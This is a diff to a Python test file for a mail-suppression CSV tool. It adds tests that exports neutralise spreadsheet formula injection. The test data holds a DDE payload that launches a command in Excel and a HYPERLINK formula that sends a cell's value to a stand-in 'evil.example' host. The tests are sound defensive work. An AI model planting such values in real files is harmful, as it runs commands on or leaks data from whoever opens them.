@@ -14,6 +14,7 @@ run: ``MAILSTROM_FUZZ_EXAMPLES=5000 pytest --timeout=0 tests/unit/test_suppressi
 
 from __future__ import annotations
 
+import csv
 import io
 import os
 import tempfile
@@ -55,6 +56,8 @@ TARGETS = [
     "bob smith@example.org",
     "target",
     "#comment@example.org",
+    "=cmd|'/ccalc'!a0@example.org",
+    "'-bob@example.org",
     "bob@exa\u202emple.org",
     "bob@exa\x85mple.org",
     "bob@exa\x9bmple.org",
@@ -74,6 +77,9 @@ REPLIES = [
     "bidi\u202eevil",
     "cr\rline",
     "r" * 2048,
+    '=HYPERLINK("http://evil.example/","click")',
+    "'@SUM(1+1)",
+    "\t-tab first",
     "r" * 2049,
     "é" * 1000,
 ]
@@ -95,7 +101,23 @@ TIMES = [
     "1970-01-01T00:00:00Z",
 ]
 MESSAGE_IDS = ["", "0190f3a2c4e1b7d08a4f2c6e9b1d3f57", "<m@example.org>", "m" * 129, "a\tb", "a\0"]
-HOSTILE = ["\0", '"', "\r", "\n", ",", "\ufeff", "\x1b", "\u202e", "\x85", "\\", "#", " "]
+HOSTILE = [
+    "\0",
+    "'",
+    "=",
+    "-",
+    '"',
+    "\r",
+    "\n",
+    ",",
+    "\ufeff",
+    "\x1b",
+    "\u202e",
+    "\x85",
+    "\\",
+    "#",
+    " ",
+]
 
 
 def mostly(seeds: list[str], valid: int) -> st.SearchStrategy[str]:
@@ -283,3 +305,40 @@ def test_a_target_with_a_c1_control_or_bidi_override_is_refused(char: str) -> No
     with pytest.raises(InvalidSuppression, match="not an address or a domain") as info:
         parse_csv(f"example.net\nbob@exa{char}mple.org\n", now=NOW)
     assert info.value.line == 2
+
+
+FORMULAS = [
+    ("=cmd|'/ccalc'!a0@example.org", "", ""),  # a valid address, DDE to Excel
+    ("+1@example.org", "-2+3", "@SUM(1)"),
+    ("-x@example.org", '=HYPERLINK("http://evil.example/?"&A2,"click")', "=m@example.org"),
+    ("bob@example.org", "\t=a tab first", ""),
+    ("bob@example.org", "'=quoted already", ""),
+    ("bob@example.org", "''+twice", ""),
+    ("bob@example.org", "'plain, a quote", ""),
+    ("'bob@example.org", "'", "'"),
+]
+
+
+@pytest.mark.parametrize(("target", "reply", "message_id"), FORMULAS)
+def test_an_export_holds_no_formula_and_imports_as_it_was(
+    target: str, reply: str, message_id: str
+) -> None:
+    """A target, reply or message id starting with = + - @ TAB or CR was exported as it
+    was: a spreadsheet opening the file ran it as a formula (CSV injection). The cell is
+    written after a ' now, and an import takes that ' off again."""
+    entry = Suppression(
+        target=normalize_target(target),
+        source=SuppressionSource.MANUAL,
+        reply=check_reply(reply),
+        created_at=NOW,
+        expires_at=None,
+        message_id=message_id or None,
+    )
+    exported = io.StringIO()
+    write_csv([entry], exported)
+    for row in csv.reader(io.StringIO(exported.getvalue())):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    if not reply.lstrip("'").startswith(("=", "+", "-", "@", "\t")):
+        assert reply in exported.getvalue()  # nothing added where no formula is
+    assert parse_csv(exported.getvalue(), now=NOW) == [entry]
